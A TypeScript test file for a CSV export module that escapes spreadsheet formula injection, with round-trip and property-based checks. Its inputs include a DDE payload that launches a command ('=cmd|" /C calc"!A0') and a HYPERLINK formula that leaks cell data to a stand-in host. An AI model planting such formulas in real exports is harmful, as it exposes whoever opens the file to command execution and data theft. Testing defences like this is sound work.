import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvRow, safeCell } from '../src/csv-safe.ts';

// Red when: a beginning is left out of the ones that are taken for a formula, or only the first character is looked at.
it.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =cmd|" /C calc"!A0',
  '\uFEFF=1+1',
  '\uFF1D1+1',
  '|calc',
  '%0A=1',
  '=HYPERLINK("https://evil.test?"&A1,"pay")',
])('%j is written as text that no spreadsheet runs', (text) => {
  expect(safeCell(text)).toBe(`'${text}`);
});

it('numbers, names and sentences are written as they are', () => {
  for (const text of ['49.99', '-49.99', '0', 'Ann', 'a=b', 'one - two', 'ann@example.test', '']) {
    expect(safeCell(text)).toBe(text);
  }
  expect(csvRow(['Ann "A" Lee, Ltd', -12, null, true])).toBe('"Ann ""A"" Lee, Ltd","-12","","true"\r\n');
});

/** Reads one row as RFC 4180 says. */
const cellsIn = (row: string): string[] =>
  [...row.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/gu)].map((match) => (match[1] ?? '').replaceAll('""', '"'));

// Red when: a quote is not doubled, or a cell is left without quotes: it then spills over into the next.
it('whatever the cells hold, they come back as the same cells, and none begins a formula', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (cells) => {
      const read = cellsIn(csvRow(cells));
      expect(read).toEqual(cells.map(safeCell));
      for (const cell of read) expect(/^[=+@\t\r|%]/u.test(cell)).toBe(false);
    }),
  );
});
